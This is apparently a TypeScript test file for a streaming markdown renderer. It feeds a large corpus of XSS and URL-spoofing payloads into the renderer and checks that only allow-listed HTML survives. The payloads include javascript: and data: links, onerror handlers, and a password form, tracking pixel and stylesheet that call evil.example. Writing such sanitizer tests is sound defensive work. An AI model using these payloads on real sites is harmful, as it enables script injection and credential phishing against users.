// Longer than most files: the corpus of hostile snippets is the file.
/// <reference types="mocha" />

import {expect} from '@open-wc/testing';
import {quickest} from '../../test/quickest.ts';
import {createMarkdownStream} from './index.ts';

const ALLOWED: Record<string, string[]> = {
  '*': ['dir', 'part'],
  a: ['href', 'target', 'rel', 'referrerpolicy', 'title'],
  blockquote: [],
  br: [],
  button: ['type', 'aria-live'],
  code: [],
  del: [],
  div: ['role', 'tabindex', 'aria-label'],
  em: [],
  figcaption: [],
  figure: [],
  h1: [],
  h2: [],
  h3: [],
  h4: [],
  h5: [],
  h6: [],
  hr: [],
  input: ['type', 'disabled', 'checked', 'aria-label'],
  li: [],
  ol: ['start'],
  p: [],
  pre: ['tabindex'],
  span: [],
  strong: [],
  table: [],
  tbody: [],
  td: ['align'],
  th: ['align'],
  thead: [],
  tr: [],
  ul: [],
};
const PARTS = /^(blocks|code|code-(head|language|copy|scroller|lines)|table|link-host)$/;
const VALUES: Record<string, RegExp> = {
  href: /^(https?:\/\/[^/@]|mailto:|tel:)/,
  target: /^_blank$/,
  rel: /^noopener noreferrer nofollow ugc$/,
  referrerpolicy: /^no-referrer$/,
  part: PARTS,
  dir: /^(ltr|rtl)$/,
  type: /^(button|checkbox)$/,
  align: /^(left|center|right)$/,
  start: /^\d{1,9}$/,
  'aria-label': /^(Table|Done|To do)$/,
};

const SCRIPT_ADDRESSES = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'jAvAsCrIpT&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  'javascript&#0000058;alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)',
  '&#x6A&#x61;vascript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java&#9;script:alert(1)',
  'java&#10;script:alert(1)',
  'java&#13;script:alert(1)',
  '&#1;javascript:alert(1)',
  '&#x20;javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\u200bjavascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript\\:alert(1)',
  'java\\script:alert(1)',
  'javascript:\\\\example.com\\%0aalert(1)',
  'javascript://example.com/%0aalert(1)',
  'javascript%3Aalert(1)',
  'ｊavascript:alert(1)',
  'vbscript:msgbox(1)',
  'vbscript&colon;msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'DATA:text/html,1',
  'file:///etc/passwd',
  'blob:https://example.com/0',
  'filesystem:https://example.com/0',
  'about:blank',
  'view-source:https://example.com',
  'chrome://settings',
  'ms-msdt:/id',
  'intent:#Intent;end',
  'ftp://example.com',
  'x-apple:1',
  'https://user:password@evil.example',
  'https://bank.example@evil.example',
  '//evil.example',
  '/relative',
  '#hash',
];

const SNIPPETS = [
  '[see https://a.b and <https://c.d>](https://e.f)',
  '[![x](https://a.b)](https://c.d)',
  '<script>alert(1)</script>',
  '<script\n>alert(1)\n</script\n>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '![pixel](https://evil.example/pixel.gif)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/"onerror="alert(1))',
  '![x"onerror="alert(1)](https://evil.example/x.png)',
  '![a][r]\n\n[r]: javascript:alert(1)',
  '[a][r]\n\n[r]: <javascript:alert(1)> "title"',
  '[a]\n\n[a]: data:text/html,1',
  '[r]: vbscript:1\n\n[r] [r][] [x][r]',
  '<javascript:alert(1)>',
  '<JaVaScRiPt:alert(1)>',
  '<data:text/html,1>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><img src=x onerror=alert(1)></math>',
  '<style>*{display:none}</style>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<div style="background:url(https://evil.example/x)" class="panel" id="app">x</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)><source src="https://evil.example/v">',
  '<audio autoplay src="https://evil.example/a">',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js" onload="alert(1)" class="x\ncode\n```',
  '    <script>alert(1)</script>',
  '[x](https://evil.example "onmouseover=\\"alert(1)")',
  '[x](https://evil.example/" onmouseover="alert(1))',
  "[x](https://evil.example/'onmouseover='alert(1))",
  '[x](<https://evil.example/ onmouseover=alert(1)>)',
  '[x](https://evil.example){onclick=alert(1) .class #id}',
  '# heading {#app onclick=alert(1)}',
  '[<img src=x onerror=alert(1)>](https://evil.example)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '[[x](javascript:alert(1))](https://a.b)',
  '[x](https://a.b)](javascript:alert(1))',
  '**[x](javascript:alert(1))**',
  '- [ ] <input type=checkbox onclick=alert(1)>\n- [x] [x](javascript:1)',
  '| <img src=x onerror=alert(1)> | [x](javascript:1) |\n|:-:|-|\n| <script> | ![x](data:1) |',
  '| a |\n|:-" onclick="alert(1)|\n| b |',
  '999999999. start\n1) "onclick="alert(1)',
  '> <script>alert(1)</script>\n> [x](javascript:1)',
  'https://evil.example/"onmouseover="alert(1)',
  'https://evil.example/<script>alert(1)</script>',
  'www.evil.example/`onclick=alert(1)',
  'javascript:alert(1) www.javascript:alert(1) http://javascript:alert(1)',
  'a@b.c"onclick="alert(1)',
  'mailto:a@b.c?subject=<script>',
  '[pay](https://evil.example/\u202etxt.exe)',
  '\u202e[moc.elpmaxe](https://evil.example)\u202c',
  '[\u2066bank.example\u2069](https://evil.example)',
  '\u2067<b>\u2069 \u061c \u200f',
  '\ud800\udc00\udfff\ud800 lone [\udfff](https://a.b/\ud800)',
  'nul\0byte [x](java\0script:alert(1))',
  '[x]: # (javascript:alert(1))\n\n[x]',
  '[__proto__] [constructor] [toString]\n\n[__proto__]: javascript:1',
  '&__proto__; &constructor; &toString;',
  '[1](javascript:1) [1][javascript:1] [1]',
  '\u001b[31mred\u001b[0m \u0007 \u0008 \u007f',
];

const CORPUS = [
  ...SCRIPT_ADDRESSES.flatMap((address) => [
    `[x](${address})`,
    `[x](<${address}>)`,
    `![x](${address})`,
    `<${address}>`,
    `[x]\n\n[x]: ${address}`,
    address,
  ]),
  ...SNIPPETS,
];

function check(container: HTMLElement, source: string): void {
  if (container.querySelector('a a')) expect.fail(`${source}: a link in a link`);
  for (const element of container.querySelectorAll('*')) {
    const tag = element.localName;
    const attributes = ALLOWED[tag];
    if (!attributes || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') expect.fail(`${source}: <${tag}>`);
    for (const {name, value} of element.attributes) {
      const known = attributes.includes(name) || ALLOWED['*']?.includes(name);
      if (!known || !(VALUES[name]?.test(value) ?? true)) expect.fail(`${source}: <${tag} ${name}="${value}">`);
    }
    if (tag === 'a')
      expect(['target', 'rel', 'referrerpolicy', 'href'].every((name) => element.hasAttribute(name))).to.equal(true);
  }
}

describe('hostile markdown', () => {
  it('becomes only what is allowed, whole and at every step', () => {
    expect(CORPUS.length).to.be.greaterThan(60);
    for (const source of CORPUS) {
      const container = document.createElement('div');
      const stream = createMarkdownStream(container, {schedule: (run) => run()});
      for (const letter of source.split('')) {
        stream.write(letter);
        check(container, JSON.stringify(source));
      }
      stream.end();
      check(container, JSON.stringify(source));
    }
  });

  it('never makes a link of an address that is not http, https, mailto or tel', () => {
    for (const address of SCRIPT_ADDRESSES) {
      for (const source of [
        `[text](${address})`,
        `[text](<${address}>)`,
        `![text](${address})`,
        `[text]\n\n[text]: ${address}`,
      ]) {
        const container = document.createElement('div');
        const stream = createMarkdownStream(container);
        stream.write(source);
        stream.end();
        const links = [...container.querySelectorAll('a')].filter(({textContent}) => textContent === 'text');
        expect(links, source).to.have.length(0);
      }
    }
  });

  it('keeps raw HTML as text', () => {
    for (const source of ['<img src=x onerror=alert(1)>', '<script>alert(1)</script>', 'a <b>c</b>', '<!-- x -->']) {
      const container = document.createElement('div');
      const stream = createMarkdownStream(container);
      stream.write(source);
      stream.end();
      expect(container.textContent).to.equal(source);
    }
  });

  it('shows the real host after a link that names another', () => {
    const container = document.createElement('div');
    const stream = createMarkdownStream(container);
    stream.write('[bank.example](https://evil.example/a) and [bank](https://evil.example)');
    stream.end();
    expect(container.textContent).to.equal('bank.example (evil.example) and bank');
    expect(container.querySelectorAll('a + [part=link-host]')).to.have.length(1);
  });

  it('shows a title that is of a line and names no other host', () => {
    const titles = ['a title', 'bank.example', 'evil.example', 't'.repeat(400)].map((title) => {
      const container = document.createElement('div');
      const stream = createMarkdownStream(container);
      stream.write(`[x](https://evil.example "${title}")`);
      stream.end();
      return container.querySelector('a')?.title;
    });
    expect(titles).to.eql(['a title', '', 'evil.example', '']);
  });

  it('causes no request', async () => {
    const seen: string[] = [];
    const observer = new PerformanceObserver((list) => seen.push(...list.getEntries().map(({name}) => name)));
    observer.observe({type: 'resource'});
    const container = document.createElement('div');
    document.body.append(container);
    const stream = createMarkdownStream(container);
    stream.write(CORPUS.join('\n\n'));
    stream.end();
    await new Promise((resolve) => setTimeout(resolve, 300));
    observer.disconnect();
    container.remove();
    expect(seen.filter((name) => name.includes('evil') || name.includes('example'))).to.eql([]);
  });

  it('stays shallow and quick in the page', () => {
    const sources = [
      `${'> '.repeat(5000)}a`,
      Array.from({length: 500}, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
      '*a '.repeat(10_000) + 'a* '.repeat(10_000),
      '['.repeat(20_000),
      '`'.repeat(20_000),
      '*'.repeat(20_000),
      '![a'.repeat(5000) + '](https://a.b)'.repeat(5000),
      'word '.repeat(40_000),
      '|-'.repeat(50_000),
      `|${'a|'.repeat(50_000)}`,
      'a**b'.repeat(20_000),
      '- 1\n'.repeat(10_000),
      'a@b.c '.repeat(5000),
      'https://a.example/ '.repeat(5000),
      `|a|\n|-|\n${'a\n'.repeat(10_000)}`,
    ];
    for (const source of sources) {
      let container = document.createElement('div');
      const ms = quickest(1000, () => {
        container = document.body.appendChild(document.createElement('div'));
        const stream = createMarkdownStream(container);
        stream.write(source);
        stream.end();
        container.remove();
      });
      expect(ms, source.slice(0, 20)).to.be.lessThan(1000);
      let depth = 0;
      for (let node = [...container.querySelectorAll('*')].at(-1); node; node = node.parentElement ?? undefined)
        depth++;
      expect(depth).to.be.lessThan(250);
    }
  });

  it('stays quick when hostile text comes in small writes', () => {
    for (const source of [
      'a*b _c [d `e <f '.repeat(6000),
      `\`\`\`\n${'code\n'.repeat(10_000)}`,
      '- a\n'.repeat(5000),
    ]) {
      const ms = quickest(3000, () => {
        let run = (): void => {};
        const stream = createMarkdownStream(document.createElement('div'), {schedule: (flush) => (run = flush)});
        for (let at = 0; at < source.length; at += 50) {
          stream.write(source.slice(at, at + 50));
          run();
        }
        stream.end();
      });
      expect(ms, source.slice(0, 20)).to.be.lessThan(3000);
    }
  });
});

it('a word costs no more after a long list', () => {
  const cost = (items: number): number => {
    let run = (): void => {};
    const stream = createMarkdownStream(document.createElement('div'), {schedule: (flush) => (run = flush)});
    for (let n = 0; n < items; n += 500) {
      stream.write('- some *item*\n'.repeat(500));
      run();
    }
    const before = performance.now();
    for (let n = 0; n < 1000; n++) {
      stream.write(n % 10 ? ' wo*rd' : '\n- item');
      run();
    }
    return performance.now() - before;
  };
  cost(500);
  const short = cost(500);
  expect(cost(20_000)).to.be.lessThan(short * 10 + 500); // 40 times the items;
}).timeout(20_000);

describe('a page with the strictest policy', () => {
  it('can use it: no sink is called', () => {
    const sinks = ['innerHTML', 'outerHTML'] as const;
    const real = sinks.map((name) => Object.getOwnPropertyDescriptor(Element.prototype, name) as PropertyDescriptor);
    for (const name of sinks) {
      Object.defineProperty(Element.prototype, name, {configurable: true, set: () => expect.fail(`${name} was set`)});
    }
    const container = document.createElement('div');
    const stream = createMarkdownStream(container);
    stream.write(CORPUS.join('\n\n'));
    stream.end();
    sinks.forEach((name, index) => {
      Object.defineProperty(Element.prototype, name, real[index] as PropertyDescriptor);
    });
    expect(container.childElementCount).to.be.greaterThan(10);
  });
});
